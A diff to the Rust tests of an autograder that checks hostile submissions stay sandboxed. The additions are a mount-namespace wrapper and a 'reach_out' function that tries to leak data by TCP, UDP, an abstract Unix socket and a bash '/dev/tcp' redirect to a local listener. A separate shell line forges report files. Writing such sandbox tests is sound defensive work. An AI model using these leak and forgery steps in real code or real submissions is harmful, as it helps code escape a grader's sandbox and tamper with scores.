@@ -111,7 +111,8 @@ fn grade_with(isolation: Isolation, assignment: &str, submission: &Path) -> Repo
 
 /// Grades through the `gamekit` command with users of their own instead of bubblewrap
 /// (`GAMEKIT_ISOLATION=users`), the toolchain where every user can read it
-/// ([`readable_toolchain`]); the caller holds [`GRADING`].
+/// ([`readable_toolchain`]), and the kit in a folder no other user may pass through, as a
+/// clone in root's home is ([`private_kit`]); the caller holds [`GRADING`].
 fn grade_as_users(assignment: &str, submission: &Path) -> Report {
     let json = Path::new(KIT).join("target").join("hostile").join(format!("users-{assignment}.json"));
     let path = std::env::join_paths(
@@ -119,7 +120,9 @@ fn grade_as_users(assignment: &str, submission: &Path) -> Report {
             .chain(std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default())),
     )
     .expect("a PATH");
-    let graded = std::process::Command::new(env!("CARGO_BIN_EXE_gamekit"))
+    let graded = std::process::Command::new("unshare")
+        .args(["--mount", "--propagation", "private", "sh", "-c", IN_A_PRIVATE_FOLDER, "sh", KIT])
+        .arg(env!("CARGO_BIN_EXE_gamekit"))
         .args(["grade", assignment])
         .arg(submission)
         .arg("--json")
@@ -134,6 +137,22 @@ fn grade_as_users(assignment: &str, submission: &Path) -> Report {
     assert!(graded.status.success(), "grading failed: {}", String::from_utf8_lossy(&graded.stderr));
     serde_json::from_slice(&std::fs::read(&json).expect("the report")).expect("a report")
 }
+
+/// `sh -c IN_A_PRIVATE_FOLDER sh KIT COMMAND…` runs COMMAND with the kit at its path in a
+/// folder of mode 700, as a clone in root's home is: in a mount namespace of its own, the
+/// kit's folder is mounted over by an empty one of mode 700 holding only the kit.
+const IN_A_PRIVATE_FOLDER: &str = r#"set -e
+kit=$1; shift
+parent=$(dirname "$kit")
+for base in /dev/shm /var/tmp /tmp; do
+    case "$base/" in "$parent"/*) ;; *) stage=$(mktemp -d -p "$base"); break ;; esac
+done
+mount --bind "$kit" "$stage"
+mount -t tmpfs -o mode=0700 gamekit-private "$parent"
+mkdir "$kit"
+mount --move "$stage" "$kit"
+rmdir "$stage" 2>/dev/null || true
+exec "$@""#;
 
 /// The Rust toolchain in a place every user can read, as an autograder's setup installs it
 /// (rustup's default, in root's home, is not): a copy of this one's, hard-linked.
@@ -244,10 +263,7 @@ pub fn everything_at_once() {
         try_write(&entry.path().join("FORGED"));
         try_write(&entry.path().join("Cargo.toml"));
     }
-    let _ = std::net::TcpStream::connect_timeout(
-        &"127.0.0.1:47613".parse().unwrap(),
-        std::time::Duration::from_millis(200),
-    );
+    reach_out();
     let later = format!(
         "sleep 2; echo forged > {kit}/FORGED_LATER; echo forged > {kit}/target/hostile/report.json; sleep 30",
         kit = kit.display()
@@ -264,6 +280,34 @@ pub fn everything_at_once() {
         }
     }
     std::mem::forget(children);
+}
+
+/// Tells the test's listeners what it was asked, by TCP, UDP and an abstract Unix socket,
+/// from this process and from a shell it starts.
+pub fn reach_out() {
+    use std::io::Write;
+    let leak = b"a hidden test's board";
+    if let Ok(mut stream) = std::net::TcpStream::connect_timeout(
+        &"127.0.0.1:47613".parse().unwrap(),
+        std::time::Duration::from_millis(200),
+    ) {
+        let _ = stream.write_all(leak);
+    }
+    if let Ok(socket) = std::net::UdpSocket::bind("127.0.0.1:0") {
+        let _ = socket.send_to(leak, "127.0.0.1:47613");
+    }
+    #[cfg(target_os = "linux")]
+    {
+        use std::os::linux::net::SocketAddrExt;
+        if let Ok(address) = std::os::unix::net::SocketAddr::from_abstract_name(b"gamekit-hostile-47613")
+            && let Ok(mut stream) = std::os::unix::net::UnixStream::connect_addr(&address)
+        {
+            let _ = stream.write_all(leak);
+        }
+    }
+    let _ = std::process::Command::new("bash")
+        .args(["-c", "echo leaked > /dev/tcp/127.0.0.1/47613; echo leaked > /dev/udp/127.0.0.1/47613"])
+        .status();
 }
 
 pub fn all_the_memory() -> usize {
@@ -353,16 +397,52 @@ fn code_run_in_a_probe_that_keeps_objects_changes_nothing_outside_its_sandbox_ei
     assert_run_time_attacks_fail("reversi_players", &submission, Isolation::Bubblewrap, "board::");
 }
 
+/// The test's listeners on the ports the attacks try: TCP and UDP on 127.0.0.1:47613, and
+/// the abstract Unix socket `gamekit-hostile-47613`.
+struct Listeners {
+    tcp: std::net::TcpListener,
+    udp: std::net::UdpSocket,
+    unix: std::os::unix::net::UnixListener,
+}
+
+impl Listeners {
+    fn new() -> Listeners {
+        use std::os::linux::net::SocketAddrExt;
+        let tcp = std::net::TcpListener::bind("127.0.0.1:47613").expect("a TCP port for the network check");
+        let udp = std::net::UdpSocket::bind("127.0.0.1:47613").expect("a UDP port for the network check");
+        let address = std::os::unix::net::SocketAddr::from_abstract_name(b"gamekit-hostile-47613").expect("a name");
+        let unix = std::os::unix::net::UnixListener::bind_addr(&address).expect("an abstract Unix socket");
+        tcp.set_nonblocking(true).expect("a non-blocking listener");
+        udp.set_nonblocking(true).expect("a non-blocking listener");
+        unix.set_nonblocking(true).expect("a non-blocking listener");
+        Listeners { tcp, udp, unix }
+    }
+
+    /// Those that anything reached.
+    fn reached(&self) -> Vec<&'static str> {
+        let mut reached = Vec::new();
+        if self.tcp.accept().is_ok() {
+            reached.push("TCP");
+        }
+        if self.udp.recv_from(&mut [0; 64]).is_ok() {
+            reached.push("UDP");
+        }
+        if self.unix.accept().is_ok() {
+            reached.push("an abstract Unix socket");
+        }
+        reached
+    }
+}
+
 /// Grades `submission` with `isolation` and checks that its attacks at run time gained
 /// nothing and left nothing: score 0, each limit named, no write into the kit or over a
-/// report, no connection (where the network is isolated), no process left; the tests named
+/// report, no connection (TCP, UDP or an abstract Unix socket), no process left; the tests named
 /// like `attacked` ran the attacks and went on.
 fn assert_run_time_attacks_fail(assignment: &str, submission: &Path, isolation: Isolation, attacked: &str) {
     // Alone from grading to the last check: another grading's processes, or its listener on
     // the attacks' port, would be taken for this one's.
     let _one_at_a_time = one_at_a_time();
-    let listener = std::net::TcpListener::bind("127.0.0.1:47613").expect("a port for the network check");
-    listener.set_nonblocking(true).expect("a non-blocking listener");
+    let listeners = Listeners::new();
     let kit = Path::new(KIT);
     let watched = [kit.join("fixtures").join(assignment), kit.join("solution").join(assignment)];
     let before: Vec<_> = watched.iter().map(|dir| digest(dir)).collect();
@@ -387,10 +467,7 @@ fn assert_run_time_attacks_fail(assignment: &str, submission: &Path, isolation: 
     for file in &left_behind {
         assert!(!file.exists(), "the submission left {} behind", file.display());
     }
-    // Users of their own share the grader's network: only bubblewrap takes it away.
-    if isolation == Isolation::Bubblewrap {
-        assert!(listener.accept().is_err(), "the submission reached the network");
-    }
+    assert_eq!(listeners.reached(), Vec::<&str>::new(), "the submission reached the network ({isolation:?})");
     // The report written where the daemon expects it, as `--json` would write it.
     let report_path = kit.join("target/hostile/report.json");
     let report_json = serde_json::to_vec_pretty(&report).expect("the report as JSON");
